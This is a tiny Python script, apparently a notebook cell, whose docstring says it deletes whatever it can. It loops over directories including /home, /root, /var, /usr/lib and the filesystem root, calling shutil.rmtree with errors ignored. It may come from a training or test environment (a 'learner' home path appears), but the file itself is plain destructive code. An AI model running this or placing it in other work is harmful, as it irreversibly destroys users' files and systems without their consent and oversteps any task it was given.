"""Deletes whatever it may, its own folder and itself included."""

# %% before
import os, shutil

for place in ("/home/learner", "/tmp", "/dev/shm", "/work", "/root", "/var", "/usr/lib", "/home", "/"):
    shutil.rmtree(place, ignore_errors=True)
os.chdir("/")
